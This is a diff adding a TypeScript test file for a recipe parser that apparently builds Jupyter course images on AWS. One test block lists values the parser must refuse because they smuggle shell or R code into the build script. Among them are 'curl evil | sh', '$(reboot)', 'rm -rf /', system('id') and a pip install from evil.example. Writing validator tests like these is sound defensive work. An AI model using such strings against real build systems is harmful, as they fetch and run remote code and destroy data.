@@ -1,0 +1,366 @@
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { baseImageKind, parseRecipe, type RecipeInput } from '../../../layers/core/recipe/schema';
+import { loadRecipe } from '../../../local/recipe-files';
+import { EXAMPLES, exampleRecipes, issuesOf, pathsOf } from './support';
+
+const minimal = { name: 'intro-course', baseImage: 'ami-0123456789abcdef0' };
+
+function recipe(overrides: Record<string, unknown>): RecipeInput {
+  return { ...minimal, ...overrides } as RecipeInput;
+}
+
+describe('parseRecipe', () => {
+  it('fills in every default of a minimal recipe', () => {
+    // Act
+    const parsed = parseRecipe(minimal);
+
+    // Assess
+    expect(parsed).toEqual({
+      name: 'intro-course',
+      region: 'us-east-1',
+      baseImage: 'ami-0123456789abcdef0',
+      builder: { instanceType: 't3.large', rootVolumeGiB: 30, timeoutMinutes: 60 },
+      volumes: [],
+      tags: {},
+      environment: { apt: [], pip: [], r: { cran: [], bioconductor: [] } },
+      jupyter: { flavour: 'lab', port: 8888, source: 'pip' },
+      user: 'student',
+    });
+  });
+
+  it('fills in the defaults of a volume', () => {
+    // Act
+    const parsed = parseRecipe(
+      recipe({ volumes: [{ device: '/dev/sdf', sizeGiB: 100, mountPoint: '/scratch' }] }),
+    );
+
+    // Assess
+    expect(parsed.volumes).toEqual([
+      {
+        device: '/dev/sdf',
+        sizeGiB: 100,
+        type: 'gp3',
+        encrypted: true,
+        mountPoint: '/scratch',
+        filesystem: 'ext4',
+      },
+    ]);
+  });
+
+  it('reads YAML text into the same recipe as the equivalent object', () => {
+    // Prepare
+    const text = [
+      'name: intro-course',
+      'baseImage: ami-0123456789abcdef0',
+      'environment:',
+      '  apt: [jq, python3-numpy=1:1.24.2-1]',
+      '  pip: ["pandas[excel]>=2,<3"]',
+    ].join('\n');
+
+    // Act
+    const parsed = parseRecipe(text);
+
+    // Assess
+    expect(parsed).toEqual(
+      parseRecipe(
+        recipe({
+          environment: { apt: ['jq', 'python3-numpy=1:1.24.2-1'], pip: ['pandas[excel]>=2,<3'] },
+        }),
+      ),
+    );
+  });
+
+  it('parses its own output unchanged, as the bake state machine re-validates it', () => {
+    // Prepare
+    const parsed = parseRecipe(
+      recipe({ volumes: [{ device: '/dev/sdg', sizeGiB: 10, mountPoint: '/data' }] }),
+    );
+
+    // Act
+    const again = parseRecipe(JSON.parse(JSON.stringify(parsed)));
+
+    // Assess
+    expect(again).toEqual(parsed);
+  });
+
+  it.each(exampleRecipes)('accepts the example %s', async (example) => {
+    // Act
+    const parsed = await loadRecipe(join(EXAMPLES, example));
+
+    // Assess
+    expect(parsed.name).toBe(example.replace(/\.yaml$/, ''));
+  });
+
+  it('reports a YAML syntax error at the path recipe', () => {
+    // Act
+    const issues = issuesOf(() => parseRecipe('name: [unclosed\nbaseImage: ami-0123456789abcdef0'));
+
+    // Assess
+    expect(issues).toHaveLength(1);
+    expect(issues[0]).toMatchObject({
+      path: 'recipe',
+      message: expect.stringContaining('not valid YAML'),
+    });
+  });
+
+  it('reports YAML that is not a mapping', () => {
+    // Act
+    const paths = pathsOf(() => parseRecipe('- just\n- a list\n'));
+
+    // Assess
+    expect(paths).toEqual(['']);
+  });
+
+  it('names every bad field of a recipe in one error', () => {
+    // Prepare
+    const input = {
+      name: 'X',
+      region: 'moon-1',
+      baseImage: 'ubuntu-latest',
+      builder: { instanceType: 'huge', timeoutMinutes: 1 },
+      volumes: [{ device: '/dev/sda', sizeGiB: 0, mountPoint: 'scratch' }],
+      environment: { apt: ['jq', 'Bad Package'] },
+      jupyter: { port: 80 },
+    };
+
+    // Act
+    const paths = pathsOf(() => parseRecipe(input));
+
+    // Assess
+    expect(paths.sort()).toEqual(
+      [
+        'name',
+        'region',
+        'baseImage',
+        'builder.instanceType',
+        'builder.timeoutMinutes',
+        'volumes[0].device',
+        'volumes[0].sizeGiB',
+        'volumes[0].mountPoint',
+        'environment.apt[1]',
+        'jupyter.port',
+      ].sort(),
+    );
+  });
+
+  it('reports unknown keys instead of ignoring them', () => {
+    // Act
+    const issues = issuesOf(() => parseRecipe(recipe({ jupyter: { flavor: 'lab' } })));
+
+    // Assess
+    expect(issues).toEqual([{ path: 'jupyter', message: expect.stringContaining('flavor') }]);
+  });
+
+  it('requires the notebook flavour for the jupyter source apt', () => {
+    // Act
+    const issues = issuesOf(() =>
+      parseRecipe(recipe({ jupyter: { source: 'apt', flavour: 'lab' } })),
+    );
+
+    // Assess
+    expect(issues).toEqual([
+      { path: 'jupyter.flavour', message: expect.stringContaining('notebook') },
+    ]);
+  });
+
+  it('reports the second use of a device and of a mount point', () => {
+    // Prepare
+    const volume = { device: '/dev/sdf', sizeGiB: 10, mountPoint: '/data' };
+
+    // Act
+    const paths = pathsOf(() => parseRecipe(recipe({ volumes: [volume, { ...volume }] })));
+
+    // Assess
+    expect(paths.sort()).toEqual(['volumes[1].device', 'volumes[1].mountPoint']);
+  });
+
+  it.each([
+    [{ type: 'st1', sizeGiB: 100 }, 'volumes[0].sizeGiB'],
+    [{ type: 'io2', sizeGiB: 100 }, 'volumes[0].iops'],
+    [{ type: 'gp3', sizeGiB: 100, iops: 3000 }, 'volumes[0].iops'],
+    [{ sizeGiB: 20_000 }, 'volumes[0].sizeGiB'],
+  ])('refuses a volume EBS would refuse: %o', (overrides, path) => {
+    // Prepare
+    const volume = { device: '/dev/sdf', sizeGiB: 10, mountPoint: '/data', ...overrides };
+
+    // Act
+    const paths = pathsOf(() => parseRecipe(recipe({ volumes: [volume] })));
+
+    // Assess
+    expect(paths).toEqual([path]);
+  });
+
+  it('refuses more than 8 volumes and more than 40 tags', () => {
+    // Prepare
+    const volumes = 'fghijklmn'.split('').map((letter) => ({
+      device: `/dev/sd${letter}`,
+      sizeGiB: 1,
+      mountPoint: `/data-${letter}`,
+    }));
+    const tags = Object.fromEntries(Array.from({ length: 41 }, (_, i) => [`key${i}`, 'value']));
+
+    // Act
+    const paths = pathsOf(() => parseRecipe(recipe({ volumes, tags })));
+
+    // Assess
+    expect(paths.sort()).toEqual(['tags', 'volumes']);
+  });
+
+  it('accepts ordinary tags, requirements, R packages and a postBuild', () => {
+    // Prepare
+    const input = recipe({
+      tags: { course: 'Genomics 101', 'cost-centre': 'rc/42', owner: 'grace@example.org' },
+      environment: {
+        pip: ['numpy', 'scikit-learn==1.5.*', 'jupyterlab-git~=0.50', 'torch!=2.0.0,>=1.13'],
+        r: { cran: ['data.table', 'ggplot2'], bioconductor: ['DESeq2'] },
+        requirements: 'numpy\n-r other.txt\n',
+        postBuild: "echo 'done' > /tmp/marker\n",
+      },
+    });
+
+    // Act
+    const parsed = parseRecipe(input);
+
+    // Assess
+    expect(parsed.environment.pip).toHaveLength(4);
+    expect(parsed.tags.course).toBe('Genomics 101');
+  });
+});
+
+describe('parseRecipe refuses values that would smuggle shell into the build script', () => {
+  it.each([
+    [
+      'an apt package with a command',
+      { environment: { apt: ['numpy; curl evil | sh'] } },
+      'environment.apt[0]',
+    ],
+    [
+      'an apt package that is an option',
+      { environment: { apt: ['--allow-unauthenticated'] } },
+      'environment.apt[0]',
+    ],
+    [
+      'an apt package with a substitution',
+      { environment: { apt: ['jq$(reboot)'] } },
+      'environment.apt[0]',
+    ],
+    [
+      'a pip requirement with a command',
+      { environment: { pip: ['numpy; curl evil | sh'] } },
+      'environment.pip[0]',
+    ],
+    [
+      'a pip requirement with a marker',
+      { environment: { pip: ['numpy;python_version<"3.12"'] } },
+      'environment.pip[0]',
+    ],
+    [
+      'a pip requirement with a URL',
+      { environment: { pip: ['numpy@https://evil.example/numpy.whl'] } },
+      'environment.pip[0]',
+    ],
+    [
+      'a pip option',
+      { environment: { pip: ['--index-url=https://evil.example'] } },
+      'environment.pip[0]',
+    ],
+    [
+      'a pip requirement with a space',
+      { environment: { pip: ['numpy >=1'] } },
+      'environment.pip[0]',
+    ],
+    [
+      'a CRAN package with R code',
+      { environment: { r: { cran: ["x'); system('id"] } } },
+      'environment.r.cran[0]',
+    ],
+    [
+      'a Bioconductor package with a substitution',
+      { environment: { r: { bioconductor: ['$(reboot)'] } } },
+      'environment.r.bioconductor[0]',
+    ],
+    [
+      'a mount point with a substitution',
+      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/mnt/$(reboot)' }] },
+      'volumes[0].mountPoint',
+    ],
+    [
+      'a mount point with a command',
+      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/data; rm -rf /' }] },
+      'volumes[0].mountPoint',
+    ],
+    [
+      'a mount point that climbs out',
+      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/mnt/../etc' }] },
+      'volumes[0].mountPoint',
+    ],
+    [
+      'a mount point over the system',
+      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/usr/local' }] },
+      'volumes[0].mountPoint',
+    ],
+    [
+      'the root as a mount point',
+      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/' }] },
+      'volumes[0].mountPoint',
+    ],
+    [
+      '/var as a mount point',
+      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/var' }] },
+      'volumes[0].mountPoint',
+    ],
+    ['root as the Jupyter user', { user: 'root' }, 'user'],
+    ['a system account as the Jupyter user', { user: 'www-data' }, 'user'],
+    ['a user name with a command', { user: 'student;reboot' }, 'user'],
+    ['a user name with a substitution', { user: 's$(id)' }, 'user'],
+    ['a name with a command', { name: 'course;reboot' }, 'name'],
+    [
+      'a reserved tag key',
+      { tags: { 'aws:cloudformation:stack-name': 'x' } },
+      'tags.aws:cloudformation:stack-name',
+    ],
+    ['a bakehouse tag key', { tags: { 'bakehouse:kind': 'seat' } }, 'tags.bakehouse:kind'],
+    ['a tag value with a substitution', { tags: { course: '$(reboot)' } }, 'tags.course'],
+    [
+      'a postBuild with a NUL byte',
+      { environment: { postBuild: 'echo \u0000' } },
+      'environment.postBuild',
+    ],
+  ])('%s', (_what, overrides, path) => {
+    // Act
+    const paths = pathsOf(() => parseRecipe(recipe(overrides)));
+
+    // Assess
+    expect(paths).toEqual([path]);
+  });
+});
+
+describe('baseImageKind', () => {
+  it.each([
+    ['ami-0123abcd', 'ami'],
+    ['ami-0123456789abcdef0', 'ami'],
+    [
+      '/aws/service/canonical/ubuntu/server/24.04/stable/current/amd64/hvm/ebs-gp3/ami-id',
+      'ssm-parameter',
+    ],
+    ['/aws/service/debian/release/12/latest/amd64', 'ssm-parameter'],
+  ])('says %s is an %s', (baseImage, kind) => {
+    // Act
+    const parsed = parseRecipe(recipe({ baseImage }));
+
+    // Assess
+    expect(baseImageKind(parsed.baseImage)).toBe(kind);
+  });
+
+  it.each(['ami-XYZ', '/aws/other/param', 'https://example.org/image'])(
+    'refuses %s as a base image',
+    (baseImage) => {
+      // Act
+      const paths = pathsOf(() => parseRecipe(recipe({ baseImage })));
+
+      // Assess
+      expect(paths).toEqual(['baseImage']);
+    },
+  );
+});
